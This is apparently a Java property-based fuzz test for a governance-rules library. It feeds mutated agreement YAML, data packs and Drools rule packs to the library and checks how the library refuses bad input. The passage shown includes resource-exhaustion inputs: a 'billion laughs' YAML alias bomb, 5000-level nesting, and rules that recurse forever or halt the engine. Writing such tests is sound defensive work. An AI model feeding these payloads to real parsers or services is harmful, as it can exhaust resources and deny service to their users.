package dk.kulturmetropol.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.FutureTask;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.regex.MatchResult;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import dk.kulturmetropol.model.Agreement;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.statistics.Statistics;

/**
 * Fuzzing of everything the library reads from a file: the agreement YAML, data packs (YAML) and DRL packs.
 * Each generated input is written to a file and read through the public API ({@code Governance.builder().config(..)}
 * and {@code .rulePack(..)}). The contract: the input is either accepted, and then simple questions are answered, or
 * refused with exactly {@link InvalidConfigException} (config) or {@link RulePackException} (packs), whose message is
 * one line, names the file and, where the input has lines, the line ({@code <path> line N: ...} for YAML,
 * {@code <path>:N} for DRL), and carries no Java internals; and either way the governance built before still answers
 * as before.
 *
 * <p>The mutants: the shipped agreement and a small data pack (DataPackTest's valid entries) with lines dropped,
 * duplicated, swapped or repeated; list entries duplicated; keys misspelt or renamed to other keys; values retyped
 * (scalar, list, map, null, number, tag, alias, anchor); dates made invalid or swapped; ids with spaces, capitals,
 * unicode and path or code text; junk lines, tabs and indentation changes; random characters; truncation; nesting
 * thousands of levels deep; whole-file replacements (empty, only comments, only a BOM, directives, ...); invalid
 * UTF-8 bytes; and for data packs misused placeholders and injection-looking strings. The DRL pack (the README's rule)
 * gets single character and line deletions, duplications and swaps. Explicit examples cover the nastiest cases.
 */
class FuzzTest {
    /** What is read, and how. */
    enum Source { CONFIG, DATA_PACK, DRL }

    /** Longest a single read and build may take before it counts as a hang. */
    private static final long TIMEOUT_SECONDS = 30;

    static final String AGREEMENT = AgreementYaml.defaultText();

    /** The valid entries of DataPackTest: each partner, each focus area, the agreement. */
    static final String DATA_PACK = "source: Test source\nduties:\n"
            + "  - clause: test.programme\n"
            + "    quote: Each partner publishes its programme by 1 February.\n"
            + "    for: each-partner\n"
            + "    actor: \"partner-municipality:${partner}\"\n"
            + "    action: publish\n"
            + "    matter: cultural-programme\n"
            + "    scope: \"${partner}\"\n"
            + "    to: [kmk]\n"
            + "    due: \"--02-01\"\n"
            + "  - { clause: test.area, quote: Q1., for: each-focus-area, actor: \"home-municipality:${area}\", action: report,"
            + " matter: focus-area-progress, scope: \"${area}\", to: [\"culture-chief:${home}\"], frequency: { per: year, min: 2, max: 2 } }\n"
            + "  - { clause: test.whole, quote: Q2., for: the-agreement, actor: kmk, action: discuss, matter: next-period,"
            + " modality: may, condition: between-meetings, due: \"2024-06-30\" }\n";

    static final String DRL_HEADER = "package my.packs;\n\n"
            + "import dk.kulturmetropol.model.*;\n"
            + "import dk.kulturmetropol.rules.pack.Derive;\n"
            + "import java.time.MonthDay;\n\n";

    /** The README's rule. */
    static final String DRL_RULE = "rule \"partner-publishes-programme\"\n"
            + "    @source(\"Gladsaxe's accession letter\")\n"
            + "    @clause(\"gladsaxe.programme\")\n"
            + "    @quote(\"Each partner publishes its cultural programme by 1 February.\")\n"
            + "when\n"
            + "    PartnerMembership($m : municipality, $v : validity)\n"
            + "then\n"
            + "    insert(Derive.must(\"partner-municipality:\" + $m, \"publish\", \"cultural-programme\", $v)\n"
            + "            .inScope($m).due(Due.yearlyOn(MonthDay.of(2, 1))));\n"
            + "end\n";

    static final String DRL = DRL_HEADER + DRL_RULE;

    private static final AtomicInteger FILES = new AtomicInteger();
    private static Path dir;
    /** A governance built from a DRL pack and a data pack before any fuzzing, and what it answered then. */
    private static Governance baseline;
    private static List<String> baselineAnswers;

    @BeforeContainer
    static void buildTheGovernanceThatMustKeepAnswering() throws IOException {
        dir = Files.createTempDirectory("kulturmetropol fuzz ");
        Path drl = Files.writeString(dir.resolve("baseline.drl"), DRL);
        Path pack = Files.writeString(dir.resolve("baseline.yaml"), DATA_PACK);
        baseline = Governance.builder().rulePack(drl).rulePack(pack).build();
        baselineAnswers = answers(baseline);
        assertThat(baselineAnswers).anyMatch(a -> a.contains("test.programme")).anyMatch(a -> a.contains("gladsaxe.programme"));
        assertKulturmetropolenAnswersKmk();
    }

    @AfterContainer
    static void removeTheFiles() throws IOException {
        if (dir != null) {
            try (Stream<Path> files = Files.walk(dir)) {
                for (Path p : files.sorted(Comparator.reverseOrder()).toList()) {
                    Files.deleteIfExists(p);
                }
            }
        }
    }

    // ------------------------------------------------------------------------------------------------- properties

    @Property(tries = 60, shrinking = ShrinkingMode.OFF)
    void a_mutated_agreement_is_accepted_and_answers_or_refused_naming_file_and_line(@ForAll("agreementMutants") Mutant mutant)
            throws IOException {
        // the outcome before the label: a label without entries breaks jqwik's statistics report when a first try fails
        String outcome = fuzz(Source.CONFIG, mutant);
        Statistics.label("agreement").collect(outcome);
    }

    @Property(tries = 60, shrinking = ShrinkingMode.OFF)
    void a_mutated_data_pack_is_accepted_and_answers_or_refused_naming_file_and_line(@ForAll("dataPackMutants") Mutant mutant)
            throws IOException {
        String outcome = fuzz(Source.DATA_PACK, mutant);
        Statistics.label("data pack").collect(outcome);
    }

    @Property(tries = 20, shrinking = ShrinkingMode.OFF)
    void random_bytes_are_refused_naming_the_file(@ForAll("randomBytes") byte[] bytes, @ForAll boolean asConfig) throws IOException {
        Mutant mutant = new Mutant(List.of("random bytes"), bytes);
        String outcome = fuzz(asConfig ? Source.CONFIG : Source.DATA_PACK, mutant);
        Statistics.label("random bytes").collect(outcome);
    }

    /** Few tries: every DRL mutant that parses is compiled with the whole kommissorium (a second or two each); the thorough profile makes eight times as many (ThoroughTries). */
    @Property(tries = 6, shrinking = ShrinkingMode.OFF)
    void a_mutated_drl_pack_compiles_and_answers_or_is_refused_naming_file_and_line(@ForAll("drlMutants") Mutant mutant)
            throws IOException {
        String outcome = fuzz(Source.DRL, mutant);
        Statistics.label("drl pack").collect(outcome);
    }

    @Provide
    Arbitrary<Mutant> agreementMutants() {
        return agreementMutantArbitrary();
    }

    @Provide
    Arbitrary<Mutant> dataPackMutants() {
        return dataPackMutantArbitrary();
    }

    @Provide
    Arbitrary<Mutant> drlMutants() {
        return drlMutantArbitrary();
    }

    @Provide
    Arbitrary<byte[]> randomBytes() {
        return Arbitraries.bytes().array(byte[].class).ofMaxSize(400);
    }

    // ------------------------------------------------------------------------------------------- explicit examples

    @Example
    void yaml_nested_five_thousand_levels_deep_is_refused_with_a_typed_message() throws IOException {
        String brackets = "[".repeat(5000);
        Map<String, String> configs = new LinkedHashMap<>();
        configs.put("5000 unclosed [", brackets);
        configs.put("5000 closed [ ] as viceChairs", AGREEMENT.replace("viceChairs: []", "viceChairs: " + brackets + "]".repeat(5000)));
        configs.put("5000 nested maps as name", AGREEMENT.replace("name: Kulturmetropolen 2021-2024",
                "name: " + "{a: ".repeat(5000) + "b" + "}".repeat(5000)));
        configs.put("5000 nested block sequences", "- ".repeat(5000) + "x\n");
        configs.put("5000 [ after the agreement", AGREEMENT + "extra: " + brackets + "\n");
        configs.put("5000 [ under an unknown key before the agreement", "extra: " + brackets + "\n" + AGREEMENT);
        Map<String, String> packs = new LinkedHashMap<>();
        packs.put("5000 unclosed [ as duties", "source: s\nduties: " + brackets + "\n");
        packs.put("5000 closed [ ] as to", DATA_PACK.replace("to: [kmk]", "to: " + brackets + "kmk" + "]".repeat(5000)));
        packs.put("5000 [ under an unknown key before the pack", "extra: " + brackets + "\n" + DATA_PACK);
        packs.put("5000 nested maps as an entry", "source: s\nduties:\n  - " + "{a: ".repeat(5000) + "b" + "}".repeat(5000) + "\n");

        List<String> problems = new ArrayList<>();
        configs.forEach((what, text) -> expectRefused(Source.CONFIG, what, text, problems));
        packs.forEach((what, text) -> expectRefused(Source.DATA_PACK, what, text, problems));
        assertThat(problems).isEmpty();
    }

    @Example
    void a_file_of_several_megabytes_is_refused_with_a_typed_message() throws IOException {
        StringBuilder partners = new StringBuilder();
        for (int i = 0; partners.length() < 3_400_000; i++) {
            partners.append("  - { id: p").append(i).append(", name: Partner ").append(i).append(" Kommune }\n");
        }
        StringBuilder duties = new StringBuilder("source: s\nduties:\n");
        for (int i = 0; duties.length() < 3_300_000; i++) {
            duties.append("  - { clause: t.c").append(i).append(", quote: Q., for: the-agreement, actor: kmk, action: discuss, matter: m")
                    .append(i).append(" }\n");
        }
        List<String> problems = new ArrayList<>();
        expectRefused(Source.CONFIG, "3.4 MB of partners", AGREEMENT.replace("partners:\n", "partners:\n" + partners), problems);
        expectRefused(Source.DATA_PACK, "3.3 MB of duties", duties.toString(), problems);
        assertThat(problems).isEmpty();
    }

    @Example
    void a_yaml_alias_bomb_is_never_expanded() throws IOException {
        StringBuilder bomb = new StringBuilder("lol0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i <= 12; i++) {
            bomb.append("lol").append(i).append(": &l").append(i).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(10, "*l" + (i - 1)))).append("]\n");
        }
        String anchors = bomb.toString();
        String inline = anchors.lines().map(l -> l.substring(l.indexOf('&'))).collect(Collectors.joining(", "));
        List<String> problems = new ArrayList<>();
        expectTypedOrAccepted(Source.CONFIG, "billion laughs alone", anchors, problems);
        expectTypedOrAccepted(Source.CONFIG, "billion laughs in viceChairs", AGREEMENT.replace("viceChairs: []", "viceChairs: [" + inline + "]"), problems);
        expectTypedOrAccepted(Source.CONFIG, "billion laughs before the agreement", anchors + AGREEMENT, problems);
        expectTypedOrAccepted(Source.DATA_PACK, "billion laughs alone", anchors, problems);
        expectTypedOrAccepted(Source.DATA_PACK, "billion laughs in to", DATA_PACK.replace("to: [kmk]", "to: [" + inline + "]"), problems);
        expectTypedOrAccepted(Source.DATA_PACK, "billion laughs merged into an entry",
                "source: s\nbomb: [" + inline + "]\nduties:\n  - <<: *l12\n    clause: t.x\n", problems);
        assertThat(problems).isEmpty();
    }

    /** DerivedFacts.run catches only Drools' ConsequenceException; an Error thrown in a consequence escapes. */
    @Example
    void a_drl_whose_consequence_recurses_forever_or_throws_an_error_is_refused_as_a_rule_pack_exception() throws IOException {
        String recursion = DRL_HEADER + "function int deeper(int n) {\n    return deeper(n + 1) + 1;\n}\n\n"
                + DRL_RULE.replace("then\n", "then\n    deeper(0);\n");
        String error = DRL_HEADER + DRL_RULE.replace("then\n", "then\n    if ($m.equals(\"koege\")) { throw new AssertionError(\"no koege\"); }\n");
        List<String> problems = new ArrayList<>();
        expectRefused(Source.DRL, "infinite recursion in a consequence", recursion, problems);
        expectRefused(Source.DRL, "an Error thrown in a consequence", error, problems);
        assertThat(problems).isEmpty();
    }

    /** Governance.catalogue and ClauseCatalogue.with refuse a pack without naming its file. */
    @Example
    void a_drl_pack_without_its_citation_is_refused_naming_the_file() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.DRL, "no @clause", DRL.replace("    @clause(\"gladsaxe.programme\")\n", ""), problems);
        expectRefused(Source.DRL, "no @quote", DRL.replace("    @quote(\"Each partner publishes its cultural programme by 1 February.\")\n", ""), problems);
        expectRefused(Source.DRL, "the same clause with two quotes", DRL + "\n" + DRL_RULE.replace("partner-publishes-programme", "second")
                .replace("by 1 February", "by 2 February"), problems);
        assertThat(problems).isEmpty();
    }

    /** ClauseCatalogue.with refuses two entries of one data pack declaring a clause twice without naming the file. */
    @Example
    void a_data_pack_declaring_a_clause_twice_is_refused_naming_file_and_line() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.DATA_PACK, "one clause, two quotes", DATA_PACK.replace("clause: test.area", "clause: test.programme"), problems);
        assertThat(problems).isEmpty();
    }

    /** A consequence may stop the engine, and then the kommissorium's own duties are silently missing. */
    @Example
    void a_drl_pack_that_halts_the_engine_is_refused_or_leaves_the_kommissorium_answering() throws IOException {
        String halt = DRL_HEADER + "rule \"stop\"\n    @clause(\"psg.who\")\n    salience 1000\nwhen\n    AgreementPeriod($v : validity)\nthen\n"
                + "    drools.halt();\nend\n";
        List<String> problems = new ArrayList<>();
        expectTypedOrAccepted(Source.DRL, "drools.halt() in a consequence", halt, problems);
        assertThat(problems).isEmpty();
    }

    /** A pack may insert a duty citing a clause nobody declares; the build accepts it, the question then fails. */
    @Example
    void a_drl_pack_inserting_a_duty_with_an_undeclared_clause_is_refused_or_answers() throws IOException {
        String dangling = DRL_HEADER + "rule \"dangling\"\n    @clause(\"psg.who\")\nwhen\n    AgreementPeriod($v : validity)\nthen\n"
                + "    insert(Duty.of(\"dangling\", \"nowhere.1\", \"kmk\", \"approve\", \"annual-plan\", $v));\nend\n";
        List<String> problems = new ArrayList<>();
        expectTypedOrAccepted(Source.DRL, "a duty citing clause nowhere.1", dangling, problems);
        assertThat(problems).isEmpty();
    }

    /** Null list items reach the model as null: messages without a line, saying "null" or quoting Java. */
    @Example
    void null_list_items_are_refused_at_their_line_in_words() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.CONFIG, "viceChairs: [~]", AGREEMENT.replace("viceChairs: []", "viceChairs: [~]"), problems);
        expectRefused(Source.CONFIG, "a partner that is ~", AGREEMENT.replace("  - { id: herlev, name: Herlev Kommune }\n", "  - ~\n"), problems);
        expectRefused(Source.CONFIG, "an empty focus area item", AGREEMENT.replace("  - { id: music, name: Musikindsatsen, home: roskilde }\n", "  -\n"), problems);
        expectRefused(Source.DATA_PACK, "to: [~]", DATA_PACK.replace("to: [kmk]", "to: [~]"), problems);
        expectRefused(Source.DATA_PACK, "jointlyWith: [~]", DATA_PACK.replace("to: [kmk]", "jointlyWith: [~]"), problems);
        assertThat(problems).isEmpty();
    }

    /** DataPackYaml passes Jackson's message on for a wrong shape: Java type names and token names. */
    @Example
    void a_data_pack_of_the_wrong_shape_is_refused_without_java_type_names() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.DATA_PACK, "duties is a map", "source: s\nduties: {a: b}\n", problems);
        expectRefused(Source.DATA_PACK, "an entry is a list", "source: s\nduties:\n  - [a, b]\n", problems);
        expectRefused(Source.DATA_PACK, "source is a list", DATA_PACK.replace("source: Test source", "source: [a]"), problems);
        expectRefused(Source.DATA_PACK, "min is too big", DATA_PACK.replace("min: 2", "min: 99999999999"), problems);
        assertThat(problems).isEmpty();
    }

    /**
     * Jackson's and SnakeYAML's own words for malformed YAML: event class names; for a key given twice (where it is
     * the last of its mapping; elsewhere the last value silently wins) record creators and setters; for a tagged
     * value, a ClassCastException's message.
     */
    @Example
    void malformed_yaml_is_refused_in_words_of_yaml() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.CONFIG, "complex keys", "? ? ? x\n", problems);
        expectRefused(Source.CONFIG, "a list as a key", "? [a]\n: b\n", problems);
        expectRefused(Source.CONFIG, "a key twice in secretariat", AGREEMENT.replace("  host: ishoej\n", "  host: ishoej\n  host: ishoej\n"), problems);
        expectRefused(Source.CONFIG, "a key twice at the end", AGREEMENT + "viceChairs: [koege]\n", problems);
        expectRefused(Source.CONFIG, "a date that is binary", AGREEMENT.replace("  from: 2021-01-01\n  to: 2024-12-31\n#", "  from: !!binary AAAA\n  to: 2024-12-31\n#"), problems);
        expectRefused(Source.DATA_PACK, "a list as a key", "? [a]\n: b\n", problems);
        expectRefused(Source.DATA_PACK, "a pack that is one word", "hello\n", problems);
        assertThat(problems).isEmpty();
    }

    /** A refused value is quoted as it is, line breaks included. */
    @Example
    void a_refused_value_with_a_line_break_gives_a_one_line_message() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.CONFIG, "a partner id with \\n", AGREEMENT.replace("id: koege", "id: \"ko\\nege\""), problems);
        expectRefused(Source.DATA_PACK, "an actor with \\r\\n", DATA_PACK.replace("actor: kmk", "actor: \"\\r\\nrule\""), problems);
        assertThat(problems).isEmpty();
    }

    /**
     * KieBases.locate gives no line where Drools gives none ("Unable to parse left part of expression"), nor the file
     * for an error in the consequence of a rule whose name starts or ends with a space (it trims the name, then looks
     * for a rule of that name); DerivedFacts.run names the exception class of a failing consequence ("DateTimeException: ...").
     */
    @Example
    void a_drl_error_names_file_and_line_in_words() throws IOException {
        List<String> problems = new ArrayList<>();
        expectRefused(Source.DRL, "a misspelt field", DRL.replace("$v : validity", "$v : valdiity"), problems);
        expectRefused(Source.DRL, "month 22 in a consequence", DRL.replace("MonthDay.of(2, 1)", "MonthDay.of(22, 1)"), problems);
        expectRefused(Source.DRL, "an error in the consequence of a rule whose name starts with a space",
                DRL.replace("rule \"partner-publishes-programme\"", "rule \" partner-publishes-programme\"").replace("Derive.must(", "Derivee.must("), problems);
        assertThat(problems).isEmpty();
    }

    // ---------------------------------------------------------------------------------------------- the checks

    /** Writes the mutant, reads and builds it, and checks the outcome; the outcome's name, for statistics. */
    static String fuzz(Source source, Mutant mutant) throws IOException {
        Path file = write(source, mutant.bytes());
        try {
            String outcome = check(source, file, mutant.text());
            assertPreviousGovernanceAnswersAsBefore();
            return outcome;
        } finally {
            Files.deleteIfExists(file);
        }
    }

    private static void expectRefused(Source source, String what, String text, List<String> problems) {
        expect(source, what, text, problems, false);
    }

    private static void expectTypedOrAccepted(Source source, String what, String text, List<String> problems) {
        expect(source, what, text, problems, true);
    }

    private static void expect(Source source, String what, String text, List<String> problems, boolean acceptable) {
        try {
            Path file = write(source, text.getBytes(StandardCharsets.UTF_8));
            try {
                long start = System.nanoTime();
                String outcome = check(source, file, text);
                if (outcome.equals("accepted") && !acceptable) {
                    problems.add(what + ": accepted, expected a refusal");
                }
                System.out.printf("FuzzTest %s, %s: %s in %d ms%n", source, what, outcome, (System.nanoTime() - start) / 1_000_000);
                assertPreviousGovernanceAnswersAsBefore();
            } finally {
                Files.deleteIfExists(file);
            }
        } catch (AssertionError | IOException e) {
            problems.add(what + ": " + e.getMessage());
        }
    }

    /** Reads and builds {@code file}; "accepted" once simple questions are answered, "refused" for a typed refusal. */
    static String check(Source source, Path file, String text) {
        Object result = within(() -> build(source, file));
        if (result instanceof Governance g) {
            try {
                askSimpleQuestions(source, g);
            } catch (Throwable e) {
                throw new AssertionError("accepted " + file + " but answering a simple question failed: "
                        + (e instanceof AssertionError ? e.getMessage() : describe(e)), e);
            }
            return "accepted";
        }
        assertTypedRefusal(source, file, text, (Throwable) result);
        return "refused";
    }

    private static Governance build(Source source, Path file) {
        Governance.Builder builder = Governance.builder();
        return (source == Source.CONFIG ? builder.config(file) : builder.rulePack(file)).build();
    }

    /** The value of {@code action}, or what it threw; fails when it takes longer than {@link #TIMEOUT_SECONDS}. */
    private static Object within(Callable<Object> action) {
        FutureTask<Object> task = new FutureTask<>(action);
        Thread thread = new Thread(task, "fuzz-read");
        thread.setDaemon(true);
        thread.start();
        try {
            return task.get(TIMEOUT_SECONDS, TimeUnit.SECONDS);
        } catch (ExecutionException e) {
            return e.getCause();
        } catch (TimeoutException e) {
            thread.interrupt();
            throw new AssertionError("reading and building did not finish within " + TIMEOUT_SECONDS + " s");
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError("interrupted", e);
        }
    }

    private static void askSimpleQuestions(Source source, Governance g) {
        assertThat(g.who("approve", "annual-plan").map(d -> d.actor())).as("who approves annual plans").allMatch("kmk"::equals);
        if (source == Source.CONFIG) {
            g.accepted("scope").stream().limit(4).forEach(s -> g.who("approve", "annual-plan", Criteria.any().scope(s)));
            g.accepted("post").stream().limit(4).forEach(g::holders);
            g.accepted("body").stream().limit(4).forEach(g::members);
            Agreement agreement = g.agreement();
            assertThat(AgreementYaml.parse(AgreementYaml.write(agreement), "written")).as("the agreement written and read again")
                    .isEqualTo(agreement);
            return;
        }
        assertKulturmetropolenAnswersKmk(g);
        Governance before = Governance.kulturmetropolen();
        news(g, before, "action").forEach(a -> g.who(a, "annual-plan"));
        news(g, before, "matter").forEach(m -> g.who("approve", m));
        news(g, before, "actor").forEach(g::duties);
        news(g, before, "scope").forEach(s -> g.who("approve", "annual-plan", Criteria.any().scope(s)));
    }

    private static List<String> news(Governance g, Governance before, String kind) {
        return g.accepted(kind).stream().filter(id -> !before.accepted(kind).contains(id)).limit(4).toList();
    }

    /** Java's, Jackson's and SnakeYAML's words, which a message should not pass on. */
    private static final List<String> JAVA_TEXT = List.of("Exception:", "\tat ", "Cannot invoke \"", "\" is null", "JsonToken", "Cannot deserialize",
            "Cannot construct instance", "Cannot coerce", "StreamReadConstraints", "creator property", "setterless property", "cannot be cast");
    private static final Pattern JAVA_NAME = Pattern.compile("\\b(?:java|javax|com\\.fasterxml|org\\.yaml|org\\.drools|org\\.kie|dk\\.kulturmetropol)\\.[\\w.$]+");

    static void assertTypedRefusal(Source source, Path file, String text, Throwable e) {
        Class<? extends IllegalArgumentException> typed = source == Source.CONFIG ? InvalidConfigException.class : RulePackException.class;
        if (e.getClass() != typed) {
            throw new AssertionError("escaped: " + describe(e) + " (expected " + typed.getSimpleName() + ") for " + file, e);
        }
        String message = e.getMessage();
        String path = file.toString();
        List<String> bad = new ArrayList<>();
        if (message == null) {
            throw new AssertionError(typed.getSimpleName() + " without a message for " + file + " from " + origin(e), e);
        }
        if (!message.contains(path)) {
            bad.add("does not name the file");
        }
        if (message.chars().anyMatch(c -> c == '\n' || c == '\r' || c == '\u0085' || c == '\u2028' || c == '\u2029')) {
            bad.add("is not one line");
        }
        for (String words : JAVA_TEXT) {
            if (message.contains(words) && (text == null || !text.contains(words))) {
                bad.add("passes on '" + words.replace("\t", "\\t") + "'");
            }
        }
        if (source != Source.DRL) {
            Matcher java = JAVA_NAME.matcher(message);
            while (java.find()) {
                if (text == null || !text.contains(java.group())) {
                    bad.add("names the Java type " + java.group());
                    break;
                }
            }
        }
        Integer line = lineNamed(source, path, message);
        if (line == null && !mayOmitTheLine(source, path, message, text)) {
            bad.add(source == Source.DRL ? "names no " + path + ":N" : "does not start with '" + path + " line N: '");
        }
        if (line != null && text != null && (line < 1 || line > lineCount(text) + 1)) {
            bad.add("names line " + line + " of a text of " + lineCount(text) + " lines");
        }
        if (!bad.isEmpty()) {
            throw new AssertionError("bad message (" + String.join(", ", bad) + ") from " + origin(e) + ": " + message, e);
        }
    }

    private static Integer lineNamed(Source source, String path, String message) {
        Matcher m = (source == Source.DRL
                ? Pattern.compile(Pattern.quote(path) + ":(\\d+)")
                : Pattern.compile("^" + Pattern.quote(path) + " line (\\d+): ")).matcher(message);
        return m.find() ? Integer.valueOf(m.group(1)) : null;
    }

    /**
     * No line only where none can be known: an empty file (or only comments and directives), a missing top-level key, a data pack
     * without entries, or bytes that are not UTF-8.
     */
    private static boolean mayOmitTheLine(Source source, String path, String message, String text) {
        if (source == Source.DRL) {
            return false;
        }
        if (text == null) {
            return message.startsWith((source == Source.CONFIG ? "cannot read config file '" : "cannot read rule pack file '") + path + "': ");
        }
        if (message.matches("cannot read (config|rule pack) file '" + Pattern.quote(path)
                + "': the file has \\d+ bytes; a file read here is at most \\d+ bytes")) {
            return true; // a file over the size read is refused before it is read, so before any line
        }
        if (!message.startsWith(path + ": ")) {
            return false;
        }
        boolean contentless = text.replace("\uFEFF", "").lines().map(String::strip)
                .allMatch(l -> l.isEmpty() || l.startsWith("#") || l.startsWith("%") || l.equals("---") || l.equals("...") || l.equals("~") || l.equals("null"));
        boolean topLevelKeyMissing = message.matches(Pattern.quote(path) + ": missing key '[A-Za-z]+'");
        // a file too long to read is refused as a whole, before any line is parsed
        boolean tooLong = message.matches(Pattern.quote(path) + ": the file has \\d+ characters; an? [a-z ]+ is at most \\d+");
        return contentless || topLevelKeyMissing || tooLong
                || (source == Source.DATA_PACK && message.endsWith("a data pack lists its entries under 'duties:'; found none"));
    }

    private static int lineCount(String text) {
        return 1 + (int) text.chars().filter(c -> c == '\n' || c == '\r' || c == '\u0085' || c == '\u2028' || c == '\u2029').count();
    }

    private static String describe(Throwable e) {
        return e.getClass().getName() + ": " + e.getMessage() + " at " + origin(e);
    }

    /** The first frame in the library's own code, e.g. {@code DerivedFacts.java:72}. */
    static String origin(Throwable e) {
        for (Throwable t = e; t != null; t = t.getCause()) {
            for (StackTraceElement frame : t.getStackTrace()) {
                String type = frame.getClassName();
                if (type.startsWith("dk.kulturmetropol.") && !type.contains("FuzzTest") && !type.endsWith("FixedJqwikSeed")) {
                    return frame.getClassName() + "." + frame.getMethodName() + "(" + frame.getFileName() + ":" + frame.getLineNumber() + ")";
                }
            }
        }
        return "(no frame of the library in the stack trace)";
    }

    private static Path write(Source source, byte[] bytes) throws IOException {
        int n = FILES.incrementAndGet();
        String name = switch (source) {
            case CONFIG -> "agreement-" + n + ".yaml";
            case DATA_PACK -> "pack-" + n + (n % 2 == 0 ? ".yaml" : ".yml");
            case DRL -> "pack-" + n + ".drl";
        };
        return Files.write(dir.resolve(name), bytes);
    }

    private static void assertPreviousGovernanceAnswersAsBefore() {
        assertKulturmetropolenAnswersKmk();
        assertThat(answers(baseline)).as("the governance built before, answering again").isEqualTo(baselineAnswers);
    }

    private static void assertKulturmetropolenAnswersKmk() {
        assertKulturmetropolenAnswersKmk(Governance.kulturmetropolen());
    }

    private static void assertKulturmetropolenAnswersKmk(Governance g) {
        assertThat(g.who("approve", "annual-plan", Criteria.any().scope("music")).map(d -> d.actor()))
                .as("who approves music's annual plan").containsExactly("kmk");
    }

    private static List<String> answers(Governance g) {
        List<String> all = new ArrayList<>();
        g.who("approve", "annual-plan", Criteria.any().scope("music")).rows()
                .forEach(r -> all.add("approve annual-plan: " + r.fact().actor() + " " + r.clause().id()));
        g.who("publish", "cultural-programme", Criteria.any().scope("koege")).rows()
                .forEach(r -> all.add("publish cultural-programme: " + r.fact().actor() + " " + r.clause().id() + " " + r.fact().due()));
        g.who("report", "focus-area-progress", Criteria.any().scope("music")).rows()
                .forEach(r -> all.add("report focus-area-progress: " + r.fact().actor() + " " + r.clause().id()));
        return all;
    }

    // ---------------------------------------------------------------------------------------------- the mutants

    /** The bytes to read, and the edits that made them from the valid text. */
    record Mutant(List<String> edits, byte[] bytes) {
        /** The text, or null where the bytes are not UTF-8. */
        String text() {
            try {
                return StandardCharsets.UTF_8.newDecoder().onMalformedInput(CodingErrorAction.REPORT)
                        .onUnmappableCharacter(CodingErrorAction.REPORT).decode(ByteBuffer.wrap(bytes)).toString();
            } catch (CharacterCodingException e) {
                return null;
            }
        }

        @Override
        public String toString() {
            String text = text();
            String shown = text == null ? "bytes " + Arrays.toString(bytes.length > 600 ? Arrays.copyOf(bytes, 600) : bytes)
                    : "\"" + escape(text.length() > 1500 ? text.substring(0, 1500) + "..." : text) + "\"";
            return edits + " (" + bytes.length + " bytes) -> " + shown;
        }
    }

    /** One edit of a text, named for the report. */
    record Op(String name, UnaryOperator<String> edit) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** A change of bytes after the text edits: invalid UTF-8. */
    record ByteOp(String name, UnaryOperator<byte[]> edit) {
    }

    static String escape(String s) {
        StringBuilder out = new StringBuilder();
        s.codePoints().forEach(c -> {
            switch (c) {
                case '\n' -> out.append("\\n");
                case '\r' -> out.append("\\r");
                case '\t' -> out.append("\\t");
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || (c >= 0x7f && c < 0xa0) || c == 0x2028 || c == 0x2029 || c == 0xfeff || Character.getType(c) == Character.SURROGATE
                            || Character.getType(c) == Character.UNASSIGNED) {
                        out.append(String.format("\\u%04x", c));
                    } else {
                        out.appendCodePoint(c);
                    }
                }
            }
        });
        return out.toString();
    }

    static Arbitrary<Mutant> agreementMutantArbitrary() {
        Pattern ids = Pattern.compile("(?<=\\b(?:id|home|municipality|host): )[a-z0-9-]+");
        return mutants(AGREEMENT, Arbitraries.frequencyOf(
                Tuple.of(3, dropLine()), Tuple.of(2, duplicateLine()), Tuple.of(2, swapLines()), Tuple.of(1, repeatLine()),
                Tuple.of(2, duplicateEntry()), Tuple.of(4, renameKey()), Tuple.of(4, retypeValue()), Tuple.of(4, breakDate()),
                Tuple.of(2, swapDates()), Tuple.of(4, replaceMatch("id", ids, BAD_IDS)), Tuple.of(2, addField(AGREEMENT_FIELDS)),
                Tuple.of(2, insertLine()), Tuple.of(2, appendToLine()), Tuple.of(2, garbage()), Tuple.of(2, charEdit()),
                Tuple.of(2, indent()), Tuple.of(1, truncate()), Tuple.of(1, nestDeep()), Tuple.of(1, replaceAll()),
                Tuple.of(1, replaceMatch("vice-chairs", Pattern.compile("(?<=viceChairs: )\\[]"), VICE_CHAIRS))));
    }

    static Arbitrary<Mutant> dataPackMutantArbitrary() {
        Pattern ids = Pattern.compile("(?<=\\b(?:clause|actor|action|matter|scope|for|modality|condition|per): )(\"[^\"\\n]*\"|[^\\n,}]+)");
        Pattern placeable = Pattern.compile("(?<=\\b(?:actor|action|matter|scope|clause|quote|source): )(\"[^\"\\n]*\"|[^\\n,}]+)"
                + "|(?<=\\b(?:to|jointlyWith): )\\[[^\\]\\n]*]");
        return mutants(DATA_PACK, Arbitraries.frequencyOf(
